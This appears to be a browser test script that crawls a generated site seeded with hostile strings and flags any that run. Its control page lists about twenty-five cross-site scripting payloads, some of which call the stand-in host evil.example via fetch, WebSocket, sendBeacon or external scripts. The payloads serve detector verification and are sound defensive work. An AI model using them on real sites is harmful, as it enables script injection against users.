// Crawls a site built from hostile strings (make-hostile-site.mjs) in Chromium
// and reports every payload that does anything but show as text.
//
//   node tests/browser/hostile/crawl.mjs --site-dir WORK/site --control-dir WORK/control \
//        --payloads WORK/payloads.json [--concurrency 2]
//
// Serves --site-dir under /community-safety/ and a control page under /control/
// from a small static server on 127.0.0.1 that sends no security headers, and
// opens pages with bypassCSP: the pages' own Content-Security-Policy meta element
// would stop most injected script, and this test is about the escaping beneath
// it. Watches: dialogs; calls to alert, confirm, prompt, print and window.open
// (wrapped by an init script in every frame); requests and WebSockets to any
// other host (answered 204 here, never sent); uncaught script errors; and, after
// load, the DOM: on* attributes, script-running addresses, frames, objects,
// base and refresh elements, scripts that are neither the site's own files nor
// JSON data, JSON data that no longer parses, Mustache tags that were expanded,
// and a page that lost its footer (something swallowed the rest of it). Also
// every .xml file must be well-formed XML with no HTML or SVG elements in it, and
// every .json file and the search index must parse.
//
// First it crawls the control page, which it writes itself with one of each
// attack; unless every one is caught, the detectors are broken and the test
// fails. Then it prints one line per problem, naming the page and the payload's
// ID, field and kind, then "N pages crawled, N problems"; exits 1 on any problem.

import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { chromium } from 'playwright-core';

// --- arguments ---------------------------------------------------------------------
function parseArgs(argv) {
  const out = { concurrency: 2 };
  for (let i = 2; i < argv.length; i++) {
    const a = argv[i];
    const v = () => {
      if (i + 1 >= argv.length) throw new Error(`${a} needs a value`);
      return argv[++i];
    };
    if (a === '--site-dir') out.siteDir = v();
    else if (a === '--control-dir') out.controlDir = v();
    else if (a === '--payloads') out.payloads = v();
    else if (a === '--concurrency') out.concurrency = Math.max(1, parseInt(v(), 10));
    else throw new Error(`unknown argument ${a}`);
  }
  for (const k of ['siteDir', 'controlDir', 'payloads'])
    if (!out[k]) throw new Error(`--${k.replace(/[A-Z]/g, (c) => '-' + c.toLowerCase())} is required`);
  return out;
}
const opts = parseArgs(process.argv);
const PREFIX = '/community-safety/';
const CONTROL = '/control/';
const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';
const PAYLOADS = JSON.parse(fs.readFileSync(opts.payloads, 'utf8'));

// --- the control page: one of each attack, each of which must be caught ---------------
// [id, what, HTML, detectors that must report it]. IDs are below 100; the site's
// payloads start at 10000.
const CONTROL_ATTACKS = [
  [1, 'inline script', '<script>alert(1)</script>', ['dialog', 'call', 'script element']],
  [2, 'img onerror', '<img src=x onerror="alert(2)">', ['dialog', 'call', 'on* attribute']],
  [3, 'svg onload', '<svg onload="alert(3)"></svg>', ['dialog', 'call', 'on* attribute']],
  [4, 'javascript: link', '<a href="javascript:alert(4)">4</a>', ['script address']],
  [5, 'disguised javascript: link', '<a href=" JaVa&#x09;ScRiPt&colon;alert(5)">5</a>', ['script address']],
  [6, 'data:text/html link', '<a href="data:text/html,&lt;script&gt;alert(6)&lt;/script&gt;">6</a>', ['script address']],
  [7, 'iframe', '<iframe src="https://evil.example/7"></iframe>', ['element', 'request']],
  [8, 'meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/8">', ['refresh', 'request']],
  [9, 'fetch to another host', "<script>fetch('https://evil.example/9').catch(() => {})</script>", ['request']],
  // In the body, after the img of attack 2: that image then loads from evil.example/10/.
  [10, 'base element', '<base href="https://evil.example/10/"><img src="pixel.gif" alt="">', ['element', 'request']],
  [11, 'on* attribute', '<div onclick="alert(11)">11</div>', ['on* attribute']],
  [12, 'WebSocket to another host', "<script>new WebSocket('ws://evil.example/12')</script>", ['request']],
  [13, 'sendBeacon to another host', "<script>navigator.sendBeacon('https://evil.example/13')</script>", ['request']],
  [14, 'object', '<object data="https://evil.example/14"></object>', ['element']],
  [15, 'window.open', "<script>window.open('https://evil.example/15')</script>", ['call']],
  [16, 'confirm and prompt', '<script>confirm(16); prompt(16)</script>', ['dialog', 'call']],
  [17, 'print', '<script>print(17)</script>', ['call']],
  [18, 'script from another host', '<script src="https://evil.example/18.js"></script>', ['script element', 'request']],
  [19, 'iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(19)&lt;/script&gt;"></iframe>', ['element', 'script address', 'dialog']],
  [20, 'uncaught script error', "<script>throw new Error('control 20')</script>", ['script error']],
  [21, 'expanded Mustache tags', '<p> mustache:21</p>', ['mustache']],
  [22, 'JSON data that does not parse', '<script type="application/json">{"control": 22</script>', ['broken JSON']],
  [23, 'form and button actions', '<form action="javascript:alert(23)"><button formaction="javascript:alert(23)">23</button></form>', ['script address']],
  [24, 'SVG xlink:href', '<svg><a xlink:href="javascript:alert(24)"><text>24</text></a></svg>', ['script address']],
  [25, 'script inside SVG', '<svg><script>alert(25)</script></svg>', ['script element', 'dialog']],
];
// Attacks found without an ID: [file, what, content, detector].
const CONTROL_FILES = [
  ['index.html', 'an unclosed comment that swallows the footer', null, 'page structure'],
  ['broken.xml', 'XML that is not well-formed', '<feed><title>26</feed>\n', 'xml'],
  ['script.xml', 'an HTML script in XML', '<feed xmlns="http://www.w3.org/2005/Atom"><title><script xmlns="http://www.w3.org/1999/xhtml">alert(27)</script></title></feed>\n', 'xml'],
  ['broken.json', 'JSON that does not parse', '{"control": 28\n', 'json'],
];
// The browser runs the script in script.xml too.
const CONTROL_XML_EXPECT = [[27, 'script in XML', 'dialog']];

function writeControl(dir) {
  fs.rmSync(dir, { recursive: true, force: true });
  fs.mkdirSync(dir, { recursive: true });
  const body = CONTROL_ATTACKS.map(([id, what, html]) => `<!-- ${id}: ${what} -->\n${html}`).join('\n');
  fs.writeFileSync(path.join(dir, 'index.html'),
    `<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Control page</title></head>\n` +
    `<body>\n<main>\n${body}\n</main>\n<!-- the footer below is swallowed by this comment\n<footer>footer</footer>\n</body></html>\n`);
  for (const [file, , content] of CONTROL_FILES) if (content) fs.writeFileSync(path.join(dir, file), content);
}

// --- the server ------------------------------------------------------------------------------
const TYPES = {
  '.html': 'text/html; charset=utf-8', '.css': 'text/css', '.js': 'text/javascript',
  '.json': 'application/json', '.xml': 'application/xml', '.csv': 'text/csv; charset=utf-8',
  '.txt': 'text/plain; charset=utf-8', '.svg': 'image/svg+xml', '.png': 'image/png',
  '.ico': 'image/x-icon', '.woff2': 'font/woff2',
};
function serve(roots) {
  const server = http.createServer((req, res) => {
    const url = new URL(req.url, 'http://x');
    let file = null;
    for (const [prefix, dir] of Object.entries(roots)) {
      if (!url.pathname.startsWith(prefix)) continue;
      let rel;
      try { rel = decodeURIComponent(url.pathname.slice(prefix.length)); } catch { break; }
      const p = path.resolve(dir, '.' + path.posix.normalize('/' + rel));
      if (p !== dir && !p.startsWith(dir + path.sep)) break;
      file = fs.existsSync(p) && fs.statSync(p).isDirectory() ? path.join(p, 'index.html') : p;
    }
    if (!file || !fs.existsSync(file)) {
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end('not found');
      return;
    }
    // No security headers at all: what protects the reader must be the escaping.
    res.writeHead(200, { 'content-type': TYPES[path.extname(file)] || 'application/octet-stream' });
    res.end(fs.readFileSync(file));
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

// --- in the page: what the DOM shows after load (run by page.evaluate) ----------------------
function domFindings() {
  const out = [];
  const excerpt = (el) => el.outerHTML.slice(0, 300);
  const add = (detector, el, text) => out.push({ detector, text, excerpt: excerpt(el) });
  // The scheme a browser would follow: the URL parser trims spaces and control
  // characters, drops tabs and line breaks, folds case; entities were decoded by
  // the HTML parser already.
  const scheme = (value) => {
    try { return new URL(value, document.baseURI).protocol; } catch { return ''; }
  };
  const RUNS_SCRIPT = (value) => {
    const s = scheme(value);
    if (s === 'javascript:' || s === 'vbscript:') return true;
    return s === 'data:' && !/^\s*data:image\/(png|gif|jpeg|webp)[;,]/i.test(value);
  };
  const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data',
    'poster', 'background', 'ping', 'codebase', 'cite', 'longdesc', 'manifest', 'icon']);
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith('on')) add('on* attribute', el, a.value);
      else if (name === 'srcdoc') add('script address', el, a.value);
      else if (URL_ATTRIBUTES.has(name) && RUNS_SCRIPT(a.value)) add('script address', el, a.value);
    }
  }
  for (const el of document.querySelectorAll('iframe, frame, frameset, object, embed, applet, base, portal'))
    add('element', el, el.outerHTML);
  for (const el of document.querySelectorAll('meta'))
    if ((el.getAttribute('http-equiv') || '').trim().toLowerCase() === 'refresh') add('refresh', el, el.getAttribute('content') || '');
  // The site's scripts are its own files, or JSON data for its charts.
  const DATA_TYPES = new Set(['application/json', 'application/ld+json']);
  for (const el of document.querySelectorAll('script')) {
    const type = (el.getAttribute('type') || '').trim().toLowerCase();
    const src = el.getAttribute('src') ?? el.getAttribute('href') ?? el.getAttribute('xlink:href');
    if (src === null && DATA_TYPES.has(type)) {
      try { JSON.parse(el.textContent); } catch (e) { add('broken JSON', el, `${e.message}: ${el.textContent.slice(0, 300)}`); }
    } else if (src === null || el.textContent.trim() !== '' || new URL(src, document.baseURI).origin !== location.origin) {
      add('script element', el, `${src ?? ''} ${el.textContent}`);
    }
  }
  // "{{x}} {{{x}}} mustache:ID" shows as written, or a Mustache engine ran over
  // the content. (Headings' ids turn ":" into "-", so they never match.)
  const html = document.documentElement.outerHTML;
  for (const m of html.matchAll(/mustache:(\d+)/g))
    if (!html.slice(0, m.index).endsWith('{{x}} {{{x}}} '))
      out.push({ detector: 'mustache', text: m[1], excerpt: html.slice(Math.max(0, m.index - 80), m.index + 20) });
  // Every page of the theme ends with its footer, after main: an injected
  // unclosed comment, script or textarea swallows it.
  const main = document.querySelector('main');
  const footer = document.querySelector('footer');
  if (!main || !footer || !(main.compareDocumentPosition(footer) & Node.DOCUMENT_POSITION_FOLLOWING))
    out.push({ detector: 'page structure', text: '', excerpt: `main ${main ? 'present' : 'missing'}; footer ${footer ? 'not after main' : 'missing'}` });
  return out;
}

// Focus and hover every link, button and field: handlers on them would run.
function focusAndHover() {
  for (const el of document.querySelectorAll('a[href], area, button, input, select, textarea, summary, [tabindex]')) {
    el.focus({ preventScroll: true });
    for (const type of ['mouseover', 'mouseenter', 'mousemove'])
      el.dispatchEvent(new MouseEvent(type, { bubbles: type !== 'mouseenter' }));
    el.blur();
  }
}

// In a page of the test server: is the XML at `url` well-formed, and free of
// HTML, SVG and MathML elements (which a browser would run or draw)?
async function xmlFindings(url) {
  const text = await (await fetch(url)).text();
  const doc = new DOMParser().parseFromString(text, 'application/xml');
  const out = [];
  const err = doc.querySelector('parsererror');
  if (err) {
    // Where the parser gave up is after the payload that broke the file, not at
    // it: the text before it is shown for a person to read, not searched for IDs.
    const at = /line (\d+) at column (\d+)/.exec(err.textContent);
    const near = at ? text.split('\n')[at[1] - 1].slice(Math.max(0, at[2] - 200), +at[2]) : '';
    out.push({ detector: 'xml', text: '', excerpt: `not well-formed: ${err.textContent.slice(0, 200)}; before the error: ${near}` });
  }
  for (const ns of ['http://www.w3.org/1999/xhtml', 'http://www.w3.org/2000/svg', 'http://www.w3.org/1998/Math/MathML'])
    for (const el of doc.getElementsByTagNameNS(ns, '*'))
      if (!err) out.push({ detector: 'xml', text: el.outerHTML, excerpt: `element in ${ns}: ${el.outerHTML.slice(0, 300)}` });
  return out;
}

// --- the browser ---------------------------------------------------------------------------------
const server = await serve({ [PREFIX]: path.resolve(opts.siteDir), [CONTROL]: path.resolve(opts.controlDir) });
const ORIGIN = `http://127.0.0.1:${server.address().port}`;
writeControl(path.resolve(opts.controlDir));

const browser = await chromium.launch({
  executablePath: CHROMIUM,
  headless: true,
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync', '--disable-quic'],
});
const context = await browser.newContext({ bypassCSP: true, javaScriptEnabled: true, viewport: { width: 1280, height: 800 } });

const visits = new Map(); // page -> the findings of its current visit
const isForeign = (u) => /^(https?|wss?):/i.test(u) && new URL(u).origin !== ORIGIN;

// Nothing leaves the machine: a request to another host is recorded (below) and
// answered "204 No Content", which also keeps a page in place when a refresh or
// link tries to take it there.
await context.route((url) => isForeign(url.href), (route) => route.fulfill({ status: 204, body: '' }));
await context.exposeBinding('__hostileCall', ({ page }, name, args) => {
  visits.get(page)?.push({ detector: 'call', text: args, excerpt: `${name}(${args})` });
});
// Runs in every frame before the page's own scripts.
await context.addInitScript(() => {
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
    const original = window[name];
    window[name] = function (...args) {
      try { window.__hostileCall(name, args.map(String).join(', ')); } catch { /* the dialog watcher still sees alert, confirm and prompt */ }
      return name === 'print' || name === 'open' ? null : original.apply(this, args);
    };
  }
});

async function visit(url, { dom = true } = {}) {
  const page = await context.newPage();
  const found = [];
  visits.set(page, found);
  page.on('dialog', (d) => {
    found.push({ detector: 'dialog', text: d.message(), excerpt: `${d.type()}: ${d.message()}` });
    d.dismiss().catch(() => {});
  });
  page.on('request', (r) => {
    if (isForeign(r.url())) found.push({ detector: 'request', text: r.url(), excerpt: `${r.resourceType()} ${r.url()}` });
  });
  page.on('websocket', (ws) => {
    if (isForeign(ws.url())) found.push({ detector: 'request', text: ws.url(), excerpt: `websocket ${ws.url()}` });
  });
  page.on('pageerror', (e) => found.push({ detector: 'script error', text: e.message, excerpt: e.message }));
  try {
    await page.goto(url, { waitUntil: 'load', timeout: 90_000 });
    // Handlers that fire just after load (svg onload, details ontoggle, a refresh).
    await page.waitForTimeout(150);
    if (dom) {
      found.push(...(await page.evaluate(domFindings)));
      await page.evaluate(focusAndHover);
      await page.waitForTimeout(50);
    }
  } catch (e) {
    found.push({ detector: 'crawl', text: '', excerpt: `could not crawl: ${e.message.split('\n')[0]}` });
  }
  visits.delete(page);
  await page.close();
  return found;
}

// --- findings, named -------------------------------------------------------------------------------
// The payload IDs a finding's text holds (an alert's argument, an address's path).
function idsIn(text, known) {
  return [...new Set([...String(text).matchAll(/\d+/g)].map((m) => m[0]).filter((id) => known(id)))];
}
const siteId = (id) => Object.hasOwn(PAYLOADS, id);

const problems = [];
function report(where, findings) {
  const seen = new Set();
  for (const f of findings) {
    const ids = idsIn(f.text, siteId);
    for (const id of ids.length ? ids : [null]) {
      const key = `${f.detector}|${id}|${id ? '' : f.excerpt}`;
      if (seen.has(key)) continue;
      seen.add(key);
      const p = id ? `payload ${id} (${PAYLOADS[id].kind} in ${PAYLOADS[id].field})` : '(no payload id)';
      problems.push(`${where}: ${f.detector}: ${p}: ${f.excerpt.replace(/\s+/g, ' ').slice(0, 500)}`);
    }
  }
}

async function runPool(items, worker) {
  let next = 0;
  const one = async () => { while (next < items.length) await worker(items[next++]); };
  await Promise.all(Array.from({ length: opts.concurrency }, one));
}

function filesIn(dir, ext) {
  const out = [];
  const walk = (d) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.name.endsWith(ext)) out.push(path.relative(dir, p).split(path.sep).join('/'));
    }
  };
  walk(dir);
  return out.sort();
}

// JSON files parse; a generated script (the search index's files,
// 'portalSearchLoaded("NAME", JSON);') too.
function jsonFindings(dir) {
  const out = [];
  for (const rel of [...filesIn(dir, '.json'), ...filesIn(dir, '.js').filter((f) => !f.startsWith('assets/'))]) {
    let text = fs.readFileSync(path.join(dir, rel), 'utf8');
    if (rel.endsWith('.js')) {
      const m = /^portalSearchLoaded\("(?:[a-z]\/[0-9a-f]{10}\.js|index\.js)",([\s\S]*)\);\n$/.exec(text);
      if (!m) { out.push([rel, { detector: 'json', text: '', excerpt: 'is not \'portalSearchLoaded("NAME", <JSON>);\'' }]); continue; }
      text = m[1];
    }
    try {
      JSON.parse(text);
    } catch (e) {
      const at = /position (\d+)/.exec(e.message);
      const near = at ? text.slice(Math.max(0, at[1] - 200), +at[1]) : '';
      out.push([rel, { detector: 'json', text: '', excerpt: `does not parse: ${e.message}; before the error: ${near}` }]);
    }
  }
  return out;
}

async function xmlCheck(base, dir) {
  // Any page of the test server's origin will do for fetch; this one is the
  // server's plain-text "not found".
  const page = await context.newPage();
  await page.goto(`${ORIGIN}/`, { waitUntil: 'load' });
  const out = [];
  for (const rel of filesIn(dir, '.xml')) out.push([rel, await page.evaluate(xmlFindings, `${ORIGIN}${base}${rel}`)]);
  await page.close();
  return out;
}

let exitCode = 0;
try {
  // --- 1. the control page: every detector must fire ------------------------------------------------
  const controlDir = path.resolve(opts.controlDir);
  const controlFound = new Map(); // file -> findings
  controlFound.set('index.html', await visit(`${ORIGIN}${CONTROL}index.html`));
  for (const rel of filesIn(controlDir, '.xml')) controlFound.set(rel, await visit(`${ORIGIN}${CONTROL}${rel}`, { dom: false }));
  for (const [rel, f] of await xmlCheck(CONTROL, controlDir)) controlFound.get(rel).push(...f);
  for (const [rel, f] of jsonFindings(controlDir)) controlFound.set(rel, [...(controlFound.get(rel) || []), f]);

  const caught = (file, detector, id) => (controlFound.get(file) || []).some((f) =>
    f.detector === detector && (id === null || idsIn(f.text, (x) => x === String(id)).length > 0));
  const missed = [];
  for (const [id, what, , detectors] of CONTROL_ATTACKS)
    for (const d of detectors) if (!caught('index.html', d, id)) missed.push(`${d} (control ${id}: ${what})`);
  for (const [file, what, , d] of CONTROL_FILES) if (!caught(file, d, null)) missed.push(`${d} (control ${file}: ${what})`);
  for (const [id, what, d] of CONTROL_XML_EXPECT) if (!caught('script.xml', d, id)) missed.push(`${d} (control script.xml: ${what})`);
  if (missed.length) {
    console.log(`the crawl's detectors missed ${missed.length} of the control page's attacks:`);
    for (const m of missed) console.log(`  ${m}`);
    exitCode = 1;
  } else {
    console.log(`hostile crawl: the control page's ${CONTROL_ATTACKS.length + CONTROL_FILES.length + CONTROL_XML_EXPECT.length} attacks were all caught`);
  }

  // --- 2. the hostile site --------------------------------------------------------------------------------
  if (!exitCode) {
    const siteDir = path.resolve(opts.siteDir);
    const pages = filesIn(siteDir, '.html').map((rel) => [rel, {}]);
    // The search page draws its results from the index with script: search for
    // a word every payload list holds, so that the results are hostile.
    const search = pages.find(([rel]) => rel === 'search/index.html');
    if (search) pages.push(['search/index.html?q=alert', {}]);
    pages.push(...filesIn(siteDir, '.xml').map((rel) => [rel, { dom: false }]));
    console.log(`hostile crawl: ${pages.length} pages at ${ORIGIN}${PREFIX}, ${opts.concurrency} at a time`);
    await runPool(pages, async ([rel, o]) => report(rel, await visit(`${ORIGIN}${PREFIX}${rel}`, o)));
    for (const [rel, f] of await xmlCheck(PREFIX, siteDir)) report(rel, f);
    for (const [rel, f] of jsonFindings(siteDir)) report(rel, [f]);
    // A crawl of a site the payloads never reached would prove nothing. Raw
    // HTML that cmark omits, withheld text and dropped links take their IDs
    // with them; most must remain.
    const published = new Set();
    for (const rel of filesIn(siteDir, ''))
      for (const m of fs.readFileSync(path.join(siteDir, rel), 'latin1').matchAll(/\d{5,}/g))
        if (siteId(m[0])) published.add(m[0]);
    const total = Object.keys(PAYLOADS).length;
    console.log(`hostile crawl: ${published.size} of ${total} payloads are in the built site`);
    if (published.size < total / 2)
      problems.push(`the site: only ${published.size} of ${total} payloads reached the built files; the injection no longer works`);

    for (const p of problems) console.log(p);
    console.log(`${pages.length} pages crawled, ${problems.length} problems`);
    if (problems.length) exitCode = 1;
  }
} finally {
  await browser.close();
  server.close();
}
process.exit(exitCode);
